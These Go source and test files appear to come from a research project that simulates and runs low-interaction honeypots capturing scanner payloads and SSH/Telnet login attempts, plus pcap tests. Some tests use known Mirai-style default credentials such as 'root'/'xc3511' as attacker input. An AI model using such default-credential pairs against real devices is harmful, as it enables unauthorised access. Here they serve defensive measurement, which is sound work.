	creds := []netsim.Credential{{Username: "root", Password: "x"}}
	rec, ok := Observe(tg, probe(22, []byte("should-drop"), creds))
	if !ok {
		t.Fatal("probe to listening port must be observed")
	}
	if rec.Payload != nil {
		t.Error("GreyNoise interactive port must not keep payloads")
	}
	if len(rec.Creds) != 1 {
		t.Error("GreyNoise interactive port must keep credentials")
	}
}

func TestObserveGreyNoiseHTTP(t *testing.T) {
	tg := greyNoiseTarget()
	rec, ok := Observe(tg, probe(80, []byte("GET /"), nil))
	if !ok || !bytes.Equal(rec.Payload, []byte("GET /")) {
		t.Errorf("GreyNoise HTTP port must keep first payload: %+v ok=%v", rec, ok)
	}
}

func TestObserveClosedPort(t *testing.T) {
	tg := greyNoiseTarget()
	if _, ok := Observe(tg, probe(9999, nil, nil)); ok {
		t.Error("probe to closed port must not be observed")
	}
}

func TestObserveHoneytrapCredentialVisibility(t *testing.T) {
	creds := []netsim.Credential{{Username: "root", Password: "x"}}

	plain := honeytrapTarget(false)
	rec, ok := Observe(plain, probe(22, nil, creds))
	if !ok {
		t.Fatal("observe failed")
	}
	if rec.Creds != nil {
		t.Error("plain Honeytrap must not see SSH credentials (encrypted channel)")
	}

	// Telnet credentials are cleartext: captured as raw payload.
	rec, ok = Observe(plain, probe(23, nil, creds))
	if !ok {
		t.Fatal("observe failed")
	}
	if rec.Creds != nil {
		t.Error("plain Honeytrap records telnet creds as payload, not creds")
	}
	if !bytes.Contains(rec.Payload, []byte("root")) {
		t.Errorf("telnet payload capture missing username: %q", rec.Payload)
	}

	emul := honeytrapTarget(true)
	rec, ok = Observe(emul, probe(22, nil, creds))
	if !ok || len(rec.Creds) != 1 {
		t.Error("emulating Honeytrap (§4.3 hosts) must capture credentials")
	}
}

func TestObserveTelescopeKindRejected(t *testing.T) {
	tg := greyNoiseTarget()
	tg.Collector = netsim.CollectTelescope
	if _, ok := Observe(tg, probe(22, nil, nil)); ok {
		t.Error("telescope targets are not honeypots")
	}
}

// TestObserveConcurrent runs Observe against shared targets from many
// goroutines. Observe is a pure function of (target, probe) — the
// parallel study pipeline calls it from every worker — so this must be
// race-free and every worker must see identical records.
func TestObserveConcurrent(t *testing.T) {
	targets := []*netsim.Target{greyNoiseTarget(), honeytrapTarget(false), honeytrapTarget(true)}
	creds := []netsim.Credential{{Username: "root", Password: "x"}}
	probes := []netsim.Probe{
		probe(22, nil, creds),
		probe(23, nil, creds),
		probe(80, []byte("GET / HTTP/1.1\r\n\r\n"), nil),
		probe(4444, []byte("nope"), nil), // closed port
	}

	type obs struct {
		rec netsim.Record
		ok  bool
	}
	want := make([][]obs, len(targets))
	for i, tg := range targets {
		for _, p := range probes {
			rec, ok := Observe(tg, p)
			want[i] = append(want[i], obs{rec, ok})
		}
	}

	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for round := 0; round < 50; round++ {
				for i, tg := range targets {
					for j, p := range probes {
						rec, ok := Observe(tg, p)
						w := want[i][j]
						if ok != w.ok || rec.Vantage != w.rec.Vantage ||
							!bytes.Equal(rec.Payload, w.rec.Payload) ||
							len(rec.Creds) != len(w.rec.Creds) {
							t.Errorf("concurrent Observe diverged for target %d probe %d", i, j)
							return
						}
					}
				}
			}
		}()
	}
	wg.Wait()
}

// TestCollectMatchesObserve checks the columnar fast path and the
// row-oriented wrapper agree for every collector kind and payload/cred
// combination, and that the bitset interactive-port check matches the
// public map.
func TestCollectMatchesObserve(t *testing.T) {
	targets := []*netsim.Target{
		{ID: "gn", IP: 1, Collector: netsim.CollectGreyNoise, Ports: []uint16{22, 23, 80}},
		{ID: "ht", IP: 2, Collector: netsim.CollectHoneytrap, Ports: []uint16{22, 23, 80}},
		{ID: "ht-auth", IP: 3, Collector: netsim.CollectHoneytrap, Ports: []uint16{22, 23, 80}, EmulateAuth: true},
		{ID: "tel", IP: 4, Collector: netsim.CollectTelescope},
	}
	creds := []netsim.Credential{{Username: "root", Password: "root"}}
	payload := []byte("GET /collect-vs-observe HTTP/1.1\r\n\r\n")
	for _, tgt := range targets {
		for _, port := range []uint16{22, 23, 80, 9999} {
			for _, withPayload := range []bool{false, true} {
				for _, withCreds := range []bool{false, true} {
					p := netsim.Probe{T: netsim.StudyStart, Src: 9, ASN: 4134, Dst: tgt.IP,
						Port: port, Transport: 6}
					if withPayload {
						p.Payload = payload
					}
					if withCreds {
						p.Creds = creds
					}
					rec, ok := Observe(tgt, p)
					pay, c, ok2 := Collect(tgt, &p)
					if ok != ok2 {
						t.Fatalf("%s/%d: Observe ok=%v, Collect ok=%v", tgt.ID, port, ok, ok2)
					}
					if !ok {
						continue
					}
					if !bytes.Equal(rec.Payload, netsim.PayloadBytes(pay)) {
						t.Fatalf("%s/%d: payload mismatch", tgt.ID, port)
					}
					if len(rec.Creds) != len(c) {
						t.Fatalf("%s/%d: cred mismatch", tgt.ID, port)
					}
				}
			}
		}
	}
}

func TestIsInteractiveMatchesMap(t *testing.T) {
	for port := 0; port < 65536; port++ {
		if IsInteractive(uint16(port)) != InteractivePorts[uint16(port)] {
			t.Fatalf("port %d: bitset %v != map %v", port, IsInteractive(uint16(port)), InteractivePorts[uint16(port)])
		}
	}
}
