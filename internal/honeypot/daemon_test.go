package honeypot

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// recordSink collects records concurrently.
type recordSink struct {
	mu   sync.Mutex
	recs []netsim.Record
}

func (s *recordSink) add(r netsim.Record) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.recs = append(s.recs, r)
}

func (s *recordSink) wait(t *testing.T, n int) []netsim.Record {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		s.mu.Lock()
		if len(s.recs) >= n {
			out := append([]netsim.Record(nil), s.recs...)
			s.mu.Unlock()
			return out
		}
		s.mu.Unlock()
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %d records", n)
	return nil
}

// startDaemon runs a daemon on a loopback listener and returns its
// address and a stop function.
func startDaemon(t *testing.T, cfg Config) (string, *recordSink, func()) {
	t.Helper()
	sink := &recordSink{}
	cfg.OnRecord = sink.add
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	d := NewDaemon(cfg)
	errCh := make(chan error, 1)
	go func() { errCh <- d.Serve(ctx, ln) }()
	stop := func() {
		cancel()
		select {
		case err := <-errCh:
			if err != nil {
				t.Errorf("Serve returned %v", err)
			}
		case <-time.After(5 * time.Second):
			t.Error("daemon did not shut down")
		}
	}
	return ln.Addr().String(), sink, stop
}

func TestFirstPayloadDaemon(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{Vantage: "test:hp", Mode: ModeFirstPayload})
	defer stop()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	payload := "GET / HTTP/1.1\r\nHost: x\r\n\r\n"
	if _, err := conn.Write([]byte(payload)); err != nil {
		t.Fatal(err)
	}
	conn.Close()

	recs := sink.wait(t, 1)
	if string(recs[0].Payload) != payload {
		t.Errorf("payload = %q, want %q", recs[0].Payload, payload)
	}
	if recs[0].Vantage != "test:hp" || !recs[0].Handshake {
		t.Errorf("record metadata: %+v", recs[0])
	}
	if recs[0].Src != wire.MustParseAddr("127.0.0.1") {
		t.Errorf("src = %v", recs[0].Src)
	}
}

func TestSSHDaemonSendsBannerAndRecordsClient(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{Vantage: "test:ssh", Mode: ModeSSH})
	defer stop()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	banner, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(banner, "SSH-2.0-") {
		t.Errorf("server banner = %q", banner)
	}
	conn.Write([]byte("SSH-2.0-Go_test_client\r\n"))
	conn.Close()

	recs := sink.wait(t, 1)
	if !bytes.HasPrefix(recs[0].Payload, []byte("SSH-2.0-Go_test_client")) {
		t.Errorf("recorded client banner = %q", recs[0].Payload)
	}
}

func TestTelnetDaemonCapturesCredentials(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{Vantage: "test:telnet", Mode: ModeTelnet, MaxAttempts: 2})
	defer stop()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Second))

	// Client answers server negotiation with IAC DONT/WONT, then logs
	// in twice with Mirai-style credentials.
	conn.Write([]byte{0xFF, 0xFE, 0x01, 0xFF, 0xFC, 0x03})
	readUntil(t, conn, "login: ")
	conn.Write([]byte("root\r\n"))
	readUntil(t, conn, "Password: ")
	conn.Write([]byte("xc3511\r\n"))
	readUntil(t, conn, "login: ")
	conn.Write([]byte("admin\r\n"))
	readUntil(t, conn, "Password: ")
	conn.Write([]byte("admin1234\r\n"))

	recs := sink.wait(t, 1)
	if len(recs[0].Creds) != 2 {
		t.Fatalf("captured %d credentials, want 2 (%+v)", len(recs[0].Creds), recs[0].Creds)
	}
	if recs[0].Creds[0] != (netsim.Credential{Username: "root", Password: "xc3511"}) {
		t.Errorf("cred 0 = %+v", recs[0].Creds[0])
	}
	if recs[0].Creds[1] != (netsim.Credential{Username: "admin", Password: "admin1234"}) {
		t.Errorf("cred 1 = %+v", recs[0].Creds[1])
	}
}

func TestTelnetDaemonStripsIACMidLine(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{Vantage: "t", Mode: ModeTelnet, MaxAttempts: 1})
	defer stop()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	readUntil(t, conn, "login: ")
	// Username with an embedded IAC DO option sequence.
	conn.Write([]byte{'r', 'o', 0xFF, 0xFD, 0x18, 'o', 't', '\r', '\n'})
	readUntil(t, conn, "Password: ")
	conn.Write([]byte("pass\r\n"))

	recs := sink.wait(t, 1)
	if len(recs[0].Creds) != 1 || recs[0].Creds[0].Username != "root" {
		t.Errorf("creds = %+v, want username 'root' with IAC stripped", recs[0].Creds)
	}
}

func TestDaemonGracefulShutdownUnderLoad(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{Vantage: "t", Mode: ModeFirstPayload})

	const n = 20
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				return
			}
			conn.Write([]byte("probe"))
			conn.Close()
		}()
	}
	wg.Wait()
	sink.wait(t, n)
	stop() // must return without hanging

	// After shutdown the port must refuse connections.
	if conn, err := net.Dial("tcp", addr); err == nil {
		conn.Close()
		t.Error("daemon still accepting after shutdown")
	}
}

func TestDaemonReadTimeout(t *testing.T) {
	addr, sink, stop := startDaemon(t, Config{
		Vantage: "t", Mode: ModeFirstPayload, ReadTimeout: 50 * time.Millisecond,
	})
	defer stop()

	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Send nothing: the daemon must still produce a (payload-less)
	// record once the deadline fires.
	recs := sink.wait(t, 1)
	if recs[0].Payload != nil {
		t.Errorf("payload = %q, want nil on timeout", recs[0].Payload)
	}
}

func TestServeUDPNeverResponds(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	sink := &recordSink{}
	ctx, cancel := context.WithCancel(context.Background())
	errCh := make(chan error, 1)
	go func() { errCh <- ServeUDP(ctx, pc, "test:udp", 0, sink.add) }()

	client, err := net.Dial("udp", pc.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	client.Write([]byte("udp probe"))

	recs := sink.wait(t, 1)
	if string(recs[0].Payload) != "udp probe" || recs[0].Transport != wire.UDP {
		t.Errorf("record = %+v", recs[0])
	}

	// No response may arrive (§3.1 amplification ethics).
	client.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	buf := make([]byte, 16)
	if n, err := client.Read(buf); err == nil {
		t.Errorf("honeypot responded to UDP with %q", buf[:n])
	}

	cancel()
	select {
	case err := <-errCh:
		if err != nil {
			t.Errorf("ServeUDP returned %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Error("ServeUDP did not stop")
	}
}

func readUntil(t *testing.T, conn net.Conn, marker string) {
	t.Helper()
	var got []byte
	buf := make([]byte, 1)
	for !bytes.HasSuffix(got, []byte(marker)) {
		if _, err := conn.Read(buf); err != nil {
			t.Fatalf("waiting for %q, got %q: %v", marker, got, err)
		}
		got = append(got, buf[0])
		if len(got) > 4096 {
			t.Fatalf("marker %q not found in %q", marker, got)
		}
	}
}
