package honeypot

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Mode selects a daemon's collection behavior.
type Mode int

// Daemon modes.
const (
	// ModeFirstPayload completes the TCP handshake and records the
	// first payload (Honeytrap's behavior and GreyNoise's behavior on
	// non-interactive ports).
	ModeFirstPayload Mode = iota
	// ModeTelnet emulates an interactive Telnet login (Cowrie-style):
	// IAC negotiation, login/password prompts, credential capture.
	ModeTelnet
	// ModeSSH performs the SSH version exchange and records the client
	// banner. Full key exchange requires non-stdlib crypto; credential
	// capture for SSH is modeled at the simulation layer.
	ModeSSH
)

// Config parameterizes a honeypot daemon.
type Config struct {
	Vantage     string // vantage ID stamped on records
	Mode        Mode
	Banner      string        // SSH banner or Telnet greeting (defaults applied)
	ReadTimeout time.Duration // per-connection I/O deadline (default 10s)
	MaxConns    int           // concurrent connection cap (default 128)
	MaxPayload  int           // first-payload capture limit (default 8 KiB)
	MaxAttempts int           // login attempts per Telnet session (default 3)
	// OnRecord receives one record per connection. Called from
	// connection goroutines; must be safe for concurrent use.
	OnRecord func(netsim.Record)
}

func (c Config) withDefaults() Config {
	if c.ReadTimeout <= 0 {
		c.ReadTimeout = 10 * time.Second
	}
	if c.MaxConns <= 0 {
		c.MaxConns = 128
	}
	if c.MaxPayload <= 0 {
		c.MaxPayload = 8 << 10
	}
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 3
	}
	if c.Banner == "" {
		switch c.Mode {
		case ModeSSH:
			c.Banner = "SSH-2.0-OpenSSH_7.4"
		case ModeTelnet:
			c.Banner = "login: "
		}
	}
	return c
}

// Daemon is a low-interaction honeypot server. Per the paper's ethics
// stance (§3.1) it is low-interaction by construction: responses are
// small and fixed, no command executes, and UDP is never answered.
type Daemon struct {
	cfg Config
	wg  sync.WaitGroup
}

// NewDaemon returns a daemon with the given configuration.
func NewDaemon(cfg Config) *Daemon {
	return &Daemon{cfg: cfg.withDefaults()}
}

// Serve accepts connections on ln until ctx is canceled, then closes
// the listener and waits for in-flight sessions to finish. It returns
// nil on a clean shutdown.
func (d *Daemon) Serve(ctx context.Context, ln net.Listener) error {
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-ctx.Done():
		case <-done:
		}
		ln.Close()
	}()

	sem := make(chan struct{}, d.cfg.MaxConns)
	for {
		conn, err := ln.Accept()
		if err != nil {
			d.wg.Wait()
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("honeypot: accept: %w", err)
		}
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
			conn.Close()
			d.wg.Wait()
			return nil
		}
		d.wg.Add(1)
		go func() {
			defer d.wg.Done()
			defer func() { <-sem }()
			defer conn.Close()
			d.handle(conn)
		}()
	}
}

func (d *Daemon) handle(conn net.Conn) {
	deadline := time.Now().Add(d.cfg.ReadTimeout)
	conn.SetDeadline(deadline)

	rec := netsim.Record{
		Vantage:   d.cfg.Vantage,
		T:         time.Now().UTC(),
		Transport: wire.TCP,
		Handshake: true,
	}
	if addr, ok := conn.RemoteAddr().(*net.TCPAddr); ok {
		if v4 := addr.IP.To4(); v4 != nil {
			rec.Src = wire.AddrFrom4(v4[0], v4[1], v4[2], v4[3])
		}
	}
	if addr, ok := conn.LocalAddr().(*net.TCPAddr); ok {
		rec.Port = uint16(addr.Port)
	}

	switch d.cfg.Mode {
	case ModeTelnet:
		rec.Creds = d.telnetSession(conn)
	case ModeSSH:
		fmt.Fprintf(conn, "%s\r\n", d.cfg.Banner)
		rec.Payload = d.readFirst(conn)
	default:
		rec.Payload = d.readFirst(conn)
	}
	if d.cfg.OnRecord != nil {
		d.cfg.OnRecord(rec)
	}
}

// readFirst reads the first payload up to the capture limit.
func (d *Daemon) readFirst(conn net.Conn) []byte {
	buf := make([]byte, d.cfg.MaxPayload)
	n, _ := conn.Read(buf)
	if n == 0 {
		return nil
	}
	return buf[:n]
}

// Telnet protocol bytes.
const (
	telnetIAC  = 0xFF
	telnetDO   = 0xFD
	telnetDONT = 0xFE
	telnetWILL = 0xFB
	telnetWONT = 0xFC
	telnetSB   = 0xFA
	telnetSE   = 0xF0

	telnetOptEcho = 0x01
	telnetOptSGA  = 0x03
)

// telnetSession runs a Cowrie-style interactive login: negotiate
// options, prompt login:/Password: pairs, record every attempt, always
// reject.
func (d *Daemon) telnetSession(conn net.Conn) []netsim.Credential {
	// Server-side option negotiation: WILL ECHO, WILL SGA, DO SGA.
	conn.Write([]byte{
		telnetIAC, telnetWILL, telnetOptEcho,
		telnetIAC, telnetWILL, telnetOptSGA,
		telnetIAC, telnetDO, telnetOptSGA,
	})
	var creds []netsim.Credential
	for attempt := 0; attempt < d.cfg.MaxAttempts; attempt++ {
		if _, err := conn.Write([]byte(d.cfg.Banner)); err != nil {
			break
		}
		user, err := d.telnetReadLine(conn)
		if err != nil || len(user) == 0 {
			break
		}
		if _, err := conn.Write([]byte("Password: ")); err != nil {
			break
		}
		pass, err := d.telnetReadLine(conn)
		if err != nil {
			break
		}
		creds = append(creds, netsim.Credential{Username: string(user), Password: string(pass)})
		if _, err := conn.Write([]byte("\r\nLogin incorrect\r\n")); err != nil {
			break
		}
	}
	return creds
}

// telnetReadLine reads one line, stripping IAC command sequences and
// CR/LF, bounded by the payload limit.
func (d *Daemon) telnetReadLine(conn net.Conn) ([]byte, error) {
	var line []byte
	buf := make([]byte, 1)
	inIAC := 0 // bytes of the current IAC sequence still to consume
	subNeg := false
	for len(line) < d.cfg.MaxPayload {
		if _, err := conn.Read(buf); err != nil {
			if len(line) > 0 {
				return line, nil
			}
			return nil, err
		}
		b := buf[0]
		switch {
		case subNeg:
			if b == telnetSE {
				subNeg = false
			}
		case inIAC == 1: // command byte after IAC
			inIAC = 0
			switch b {
			case telnetDO, telnetDONT, telnetWILL, telnetWONT:
				inIAC = 2 // one option byte follows
			case telnetSB:
				subNeg = true
			case telnetIAC:
				line = append(line, telnetIAC) // escaped 0xFF data byte
			}
		case inIAC == 2: // option byte
			inIAC = 0
		case b == telnetIAC:
			inIAC = 1
		case b == '\n':
			return bytes.TrimRight(line, "\r"), nil
		case b == 0:
			// NUL after CR in NVT encoding: ignore.
		default:
			line = append(line, b)
		}
	}
	return line, nil
}

// ServeUDP records first UDP payloads without ever responding (§3.1:
// "our honeypots do not respond to UDP messages, ensuring that no
// UDP-based DDoS amplification attacks occur"). It returns when ctx is
// canceled.
func ServeUDP(ctx context.Context, pc net.PacketConn, vantage string, maxPayload int, onRecord func(netsim.Record)) error {
	if maxPayload <= 0 {
		maxPayload = 8 << 10
	}
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-ctx.Done():
		case <-done:
		}
		pc.Close()
	}()
	buf := make([]byte, maxPayload)
	for {
		n, addr, err := pc.ReadFrom(buf)
		if err != nil {
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("honeypot: udp read: %w", err)
		}
		rec := netsim.Record{
			Vantage:   vantage,
			T:         time.Now().UTC(),
			Transport: wire.UDP,
			Payload:   append([]byte(nil), buf[:n]...),
		}
		if ua, ok := addr.(*net.UDPAddr); ok {
			if v4 := ua.IP.To4(); v4 != nil {
				rec.Src = wire.AddrFrom4(v4[0], v4[1], v4[2], v4[3])
			}
		}
		if la, ok := pc.LocalAddr().(*net.UDPAddr); ok {
			rec.Port = uint16(la.Port)
		}
		if onRecord != nil {
			onRecord(rec)
		}
	}
}
