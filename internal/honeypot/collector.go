// Package honeypot implements the two honeypot collection methods of
// §3.1 plus real TCP daemons exercising the same session logic over
// the network:
//
//   - GreyNoise-style: Cowrie-like interactive credential capture on
//     SSH/Telnet-assigned ports; TCP/TLS handshake + first payload on
//     everything else. Payloads on interactive ports are not kept
//     (the paper's GreyNoise honeypots "collect SSH (ports 22, 2222)
//     and Telnet (23, 2323) attempted login credentials; for all other
//     ports ... records only the first received payload").
//
//   - Honeytrap-style: completes the TCP handshake and records the
//     first payload on any port; emulated SSH/Telnet/HTTP services in
//     the leak experiment also record credentials.
//
// The sim collectors turn netsim.Probe into netsim.Record; the daemons
// in daemon.go accept real connections and produce the same records.
package honeypot

import (
	"cloudwatch/internal/netsim"
)

// InteractivePorts are the Cowrie-emulated ports of a GreyNoise
// honeypot. The map is the stable public surface; the per-probe hot
// path tests the bitset below instead.
var InteractivePorts = map[uint16]bool{22: true, 2222: true, 23: true, 2323: true}

// interactiveBits is the bitset form of InteractivePorts: one 64-bit
// load per check instead of a map probe.
var interactiveBits = func() (bits [1024]uint64) {
	for port := range InteractivePorts {
		bits[port>>6] |= 1 << (port & 63)
	}
	return bits
}()

// IsInteractive reports whether a port is Cowrie-emulated on a
// GreyNoise honeypot (the bitset counterpart of InteractivePorts).
func IsInteractive(port uint16) bool {
	return interactiveBits[port>>6]&(1<<(port&63)) != 0
}

// Collect decides what the target's collector keeps of a probe: the
// interned payload id and the credential list that survive, or
// ok=false when the collector would not record the probe at all. It is
// the columnar core of Observe — the study pipeline appends its result
// straight onto per-shard record columns without building a Record.
//
// Every payload Collect returns is interned: dictionary payloads
// arrive with the probe's Pay id, and dynamically-built bytes (raw
// emitters, cleartext telnet login captures) are interned here — so
// downstream record storage never aliases an emitter-owned buffer.
func Collect(t *netsim.Target, p *netsim.Probe) (pay netsim.PayloadID, creds []netsim.Credential, ok bool) {
	if !t.ListensOn(p.Port) {
		return 0, nil, false
	}
	switch t.Collector {
	case netsim.CollectGreyNoise:
		if IsInteractive(p.Port) {
			return 0, p.Creds, true
		}
		return p.PayID(), nil, true
	case netsim.CollectHoneytrap:
		pay = p.PayID()
		// Honeytrap sees credentials only where it emulates the
		// service (§4.3 experiment hosts); SSH credentials on a plain
		// first-payload collector are unobservable (encrypted channel).
		if t.EmulateAuth {
			return pay, p.Creds, true
		}
		if (p.Port == 23 || p.Port == 2323) && len(p.Creds) > 0 && pay == 0 {
			// Telnet logins are cleartext: a payload collector records
			// them as raw bytes even without emulation.
			pay = netsim.InternPayload(telnetCredBytes(p.Creds))
		}
		return pay, nil, true
	default:
		return 0, nil, false
	}
}

// Observe converts a probe into the record the target's collector
// would produce, or reports false when the collector would not record
// it (e.g. a probe to a port the honeypot does not listen on). It is
// the row-oriented compatibility wrapper around Collect; the returned
// record's Payload aliases the interner's immutable copy.
func Observe(t *netsim.Target, p netsim.Probe) (netsim.Record, bool) {
	pay, creds, ok := Collect(t, &p)
	if !ok {
		return netsim.Record{}, false
	}
	return netsim.Record{
		Vantage:   t.ID,
		T:         p.T,
		Src:       p.Src,
		ASN:       p.ASN,
		Port:      p.Port,
		Transport: p.Transport,
		Pay:       pay,
		Payload:   netsim.PayloadBytes(pay),
		Creds:     creds,
		Handshake: true,
	}, true
}

// telnetCredBytes renders telnet login attempts the way a raw payload
// capture would see them: newline-separated username/password lines.
func telnetCredBytes(creds []netsim.Credential) []byte {
	var out []byte
	for _, c := range creds {
		out = append(out, c.Username...)
		out = append(out, '\r', '\n')
		out = append(out, c.Password...)
		out = append(out, '\r', '\n')
	}
	return out
}
