// Package honeypot implements the two honeypot collection methods of
// §3.1 plus real TCP daemons exercising the same session logic over
// the network:
//
//   - GreyNoise-style: Cowrie-like interactive credential capture on
//     SSH/Telnet-assigned ports; TCP/TLS handshake + first payload on
//     everything else. Payloads on interactive ports are not kept
//     (the paper's GreyNoise honeypots "collect SSH (ports 22, 2222)
//     and Telnet (23, 2323) attempted login credentials; for all other
//     ports ... records only the first received payload").
//
//   - Honeytrap-style: completes the TCP handshake and records the
//     first payload on any port; emulated SSH/Telnet/HTTP services in
//     the leak experiment also record credentials.
//
// The sim collectors turn netsim.Probe into netsim.Record; the daemons
// in daemon.go accept real connections and produce the same records.
package honeypot

import (
	"cloudwatch/internal/netsim"
)

// InteractivePorts are the Cowrie-emulated ports of a GreyNoise
// honeypot.
var InteractivePorts = map[uint16]bool{22: true, 2222: true, 23: true, 2323: true}

// Observe converts a probe into the record the target's collector
// would produce, or reports false when the collector would not record
// it (e.g. a probe to a port the honeypot does not listen on).
func Observe(t *netsim.Target, p netsim.Probe) (netsim.Record, bool) {
	if !t.ListensOn(p.Port) {
		return netsim.Record{}, false
	}
	rec := netsim.Record{
		Vantage:   t.ID,
		T:         p.T,
		Src:       p.Src,
		ASN:       p.ASN,
		Port:      p.Port,
		Transport: p.Transport,
		Handshake: true,
	}
	switch t.Collector {
	case netsim.CollectGreyNoise:
		if InteractivePorts[p.Port] {
			rec.Creds = p.Creds
		} else {
			rec.Payload = p.Payload
		}
	case netsim.CollectHoneytrap:
		rec.Payload = p.Payload
		// Honeytrap sees credentials only where it emulates the
		// service (§4.3 experiment hosts); SSH credentials on a plain
		// first-payload collector are unobservable (encrypted channel).
		if t.EmulateAuth {
			rec.Creds = p.Creds
		} else if (p.Port == 23 || p.Port == 2323) && len(p.Creds) > 0 && p.Payload == nil {
			// Telnet logins are cleartext: a payload collector records
			// them as raw bytes even without emulation.
			rec.Payload = telnetCredBytes(p.Creds)
		}
	default:
		return netsim.Record{}, false
	}
	return rec, true
}

// telnetCredBytes renders telnet login attempts the way a raw payload
// capture would see them: newline-separated username/password lines.
func telnetCredBytes(creds []netsim.Credential) []byte {
	var out []byte
	for _, c := range creds {
		out = append(out, c.Username...)
		out = append(out, '\r', '\n')
		out = append(out, c.Password...)
		out = append(out, '\r', '\n')
	}
	return out
}
