package pcap

import (
	"bytes"
	"encoding/binary"
	"io"
	"math/rand"
	"testing"
	"testing/quick"
	"time"

	"cloudwatch/internal/wire"
)

func mkPacket(i int) wire.Packet {
	return wire.Packet{
		Time:    time.Unix(1625097600+int64(i), int64(i)*1000).UTC(),
		Src:     wire.AddrFrom4(203, 0, 113, byte(i)),
		Dst:     wire.AddrFrom4(198, 51, 100, byte(i+1)),
		SrcPort: uint16(40000 + i),
		DstPort: 22,
		Proto:   wire.TCP,
		Flags:   wire.FlagSYN,
		Payload: []byte("SSH-2.0-Go\r\n"),
	}
}

func TestRoundTrip(t *testing.T) {
	var packets []wire.Packet
	for i := 0; i < 25; i++ {
		packets = append(packets, mkPacket(i))
	}
	var buf bytes.Buffer
	if err := WriteAll(&buf, packets); err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(packets) {
		t.Fatalf("read %d packets, want %d", len(got), len(packets))
	}
	for i := range packets {
		if got[i].Src != packets[i].Src || got[i].DstPort != packets[i].DstPort {
			t.Errorf("packet %d addressing mismatch", i)
		}
		if !got[i].Time.Equal(packets[i].Time) {
			t.Errorf("packet %d time = %v, want %v", i, got[i].Time, packets[i].Time)
		}
		if !bytes.Equal(got[i].Payload, packets[i].Payload) {
			t.Errorf("packet %d payload mismatch", i)
		}
	}
}

func TestEmptyCaptureHasHeader(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != 24 {
		t.Fatalf("empty capture = %d bytes, want 24 (header only)", buf.Len())
	}
	if got := binary.LittleEndian.Uint32(buf.Bytes()[0:4]); got != magicMicroseconds {
		t.Errorf("magic = %#x", got)
	}
	got, err := ReadAll(&buf)
	if err != nil || len(got) != 0 {
		t.Errorf("reading empty capture: %v packets, err=%v", len(got), err)
	}
}

func TestHeaderFields(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteAll(&buf, []wire.Packet{mkPacket(0)}); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if v := binary.LittleEndian.Uint16(b[4:6]); v != 2 {
		t.Errorf("major version = %d", v)
	}
	if v := binary.LittleEndian.Uint16(b[6:8]); v != 4 {
		t.Errorf("minor version = %d", v)
	}
	if v := binary.LittleEndian.Uint32(b[20:24]); v != 1 {
		t.Errorf("link type = %d, want 1 (Ethernet)", v)
	}
}

func TestReaderRejectsBadMagic(t *testing.T) {
	data := make([]byte, 24)
	binary.LittleEndian.PutUint32(data[0:4], 0xDEADBEEF)
	_, err := ReadAll(bytes.NewReader(data))
	if err != ErrBadMagic {
		t.Errorf("err = %v, want ErrBadMagic", err)
	}
}

func TestReaderRejectsBadLinkType(t *testing.T) {
	data := make([]byte, 24)
	binary.LittleEndian.PutUint32(data[0:4], magicMicroseconds)
	binary.LittleEndian.PutUint16(data[4:6], 2)
	binary.LittleEndian.PutUint32(data[20:24], 101) // raw IP
	_, err := ReadAll(bytes.NewReader(data))
	if err != ErrBadLink {
		t.Errorf("err = %v, want ErrBadLink", err)
	}
}

func TestReaderTruncatedRecord(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteAll(&buf, []wire.Packet{mkPacket(0)}); err != nil {
		t.Fatal(err)
	}
	trunc := buf.Bytes()[:buf.Len()-5]
	_, err := ReadAll(bytes.NewReader(trunc))
	if err == nil {
